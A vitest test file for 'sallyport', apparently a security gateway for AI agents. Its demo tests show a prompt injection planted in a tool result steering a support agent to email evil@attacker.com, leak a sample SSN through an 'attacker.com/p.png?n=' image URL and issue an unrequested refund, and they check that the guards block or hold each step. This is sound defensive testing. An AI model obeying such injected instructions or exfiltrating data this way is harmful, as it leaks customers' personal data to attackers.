import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { demoShape } from '../../src/cli/shapes.ts';
import { exampleDir } from '../../src/cli/places.ts';
import { run } from './run.ts';

let cwd: string;
beforeEach(async () => {
  cwd = await mkdtemp(join(tmpdir(), 'sallyport-demo-test-'));
});
afterEach(() => rm(cwd, { recursive: true, force: true }));

/** The demo under permissions that allow everything. */
async function perform(more: string) {
  await mkdir(join(cwd, 'policies'));
  const all = "{ models: { '*': allow }, tools: { '*': allow } }";
  const lax = `roles:\n  support: ${all}\n  chat: ${all}\n`;
  await writeFile(join(cwd, 'policies/permissions.yaml'), lax);
  const config = `policies: policies\nproviders: { scripted: { baseUrl: "\${env:SUPPORT_MODEL_URL}" } }\n${more}`;
  await writeFile(join(cwd, 'lax.yaml'), config);
  const { code, stdout } = await run(['demo', '--json', '--port', '0', '--config', 'lax.yaml'], { cwd });
  return { code, ...demoShape.parse(JSON.parse(stdout)) };
}

const example = readFileSync(join(exampleDir, 'sallyport.yaml'), 'utf8');
/** What the example says of its tools. */
const manifests = example.slice(example.indexOf('\ntools:'));
const ssn = '536-22-8741';

describe('demo', () => {
  test('the attack comes to nothing, the customer is served, and it says so by its exit code', async () => {
    const { code, stdout } = await run(['demo', '--json', '--port', '0'], { cwd });
    const demo = demoShape.parse(JSON.parse(stdout));
    expect(code).toBe(0);
    expect(demo.checks.every(({ ok }) => ok)).toBe(true);
    expect(demo.checks).toHaveLength(8);
    expect(demo.sent.map(({ to }) => to)).toEqual(['mara@customer.example']);
    const decided = demo.decisions.map(({ tool, outcome }) => `${tool} ${outcome}`);
    expect(decided).toContain('list_customers deny');
    expect(decided).toContain('send_email require_approval');
    expect(decided).toContain('send_email allow');
    // Permissions allow the refund: that it waits is the work of information flow alone.
    const refund = demo.decisions.find(({ tool }) => tool === 'refund');
    expect(refund).toMatchObject({ outcome: 'require_approval' });
    expect(new Set(refund?.reasons)).toEqual(new Set(['untrusted_target', 'unrequested_action']));
    const [cleared = '', carrier = '', orders = ''] = demo.answers;
    expect(cleared).toContain(ssn);
    expect(carrier).toContain('image removed');
    expect(carrier).not.toContain(ssn);
    expect(orders).toContain('other_owner');
  });

  test('it tells what the model read, what was flagged and what was withheld, and writes no number of its own', async () => {
    const { stdout } = await run(['demo', '--port', '0', '--exit'], { cwd, env: {} });
    expect(stdout).toMatch(/the model read .*"ssn":"<US_SSN_1>"/);
    expect(stdout).toMatch(/flagged\s+tool_result carrier_notes\s+injection_suspected guards\.injection/);
    expect(stdout).toMatch(/deny\s+model_response .*\s+other_owner guards\.fence; text; 2 × EMAIL/);
    // The agent's own step and the customer's own answer hold it; what the checkpoint recorded does not.
    const holding = stdout.split('\n').filter((line) => line.includes(ssn));
    expect(holding.map((line) => line.trim().split('  ')[0])).toEqual(['the agent ran', 'the answer']);
  });

  test('where permissions allow everything, information flow alone stops it, and the customer is served', async () => {
    const demo = await perform(manifests);
    expect({ code: demo.code, ok: demo.ok }).toEqual({ code: 0, ok: true });
    const held = demo.decisions.filter(({ outcome }) => outcome === 'require_approval');
    expect(new Set(held.map(({ tool }) => tool))).toEqual(new Set(['send_email', 'refund']));
    expect(held.flatMap(({ reasons }) => reasons)).not.toContain('approval_required');
  });

  test('without either it goes wrong, and it says that too: the self-check is no decoration', async () => {
    const demo = await perform('guards: { flow: { mode: observe } }\n');
    expect({ code: demo.code, ok: demo.ok }).toEqual({ code: 3, ok: false });
    expect(demo.sent.map(({ to }) => to)).toContain('evil@attacker.com');
  });

  test('without the content guards the number reaches the model, and the check says so', async () => {
    const off = ['redact', 'fence', 'exfiltration', 'injection'].map((guard) => `${guard}: { mode: off }`).join(', ');
    const demo = await perform(`guards: { ${off} }${manifests}`);
    expect({ code: demo.code, ok: demo.ok }).toEqual({ code: 3, ok: false });
    expect(demo.checks.slice(-4).map(({ ok }) => ok)).toEqual([false, true, false, false]);
    expect(demo.answers.join()).toContain(`attacker.com/p.png?n=${ssn}`);
    expect(demo.answers.join()).toContain('jonas@customer.example');
  });

  test('it leaves nothing behind', async () => {
    const { code, stdout } = await run(['demo', '--port', '0', '--exit'], { cwd, env: {} });
    expect(code).toBe(0);
    expect(stdout).toContain('list_customers');
    expect(await readdir(cwd)).toEqual([]);
  });
});

describe('the process', () => {
  const main = fileURLToPath(new URL('../../bin/sallyport.js', import.meta.url));
  const begin = (...line: string[]) => {
    const child = spawn(process.execPath, [main, ...line], { cwd, stdio: ['ignore', 'pipe', 'pipe'], env: {} });
    let text = '';
    child.stdout.on('data', (part: Buffer) => (text += part.toString()));
    child.stderr.resume();
    return { child, text: () => text };
  };

  test('Ctrl-C ends a runtime gracefully, and SIGTERM does too', async () => {
    for (const signal of ['SIGINT', 'SIGTERM'] as const) {
      const { child, text } = begin('dev', '--json', '--port', '0');
      await expect.poll(text).toContain('"url"');
      child.kill(signal);
      expect(await once(child, 'exit')).toEqual([0, null]);
    }
    expect(await readdir(join(cwd, '.sallyport'))).not.toContain('runtime.json');
  });

  test('data goes to stdout and errors to stderr, with the exit code of the command', async () => {
    const { child, text } = begin('keys', 'list');
    expect(await once(child, 'exit')).toEqual([5, null]);
    expect(text()).toBe('');
  });
});
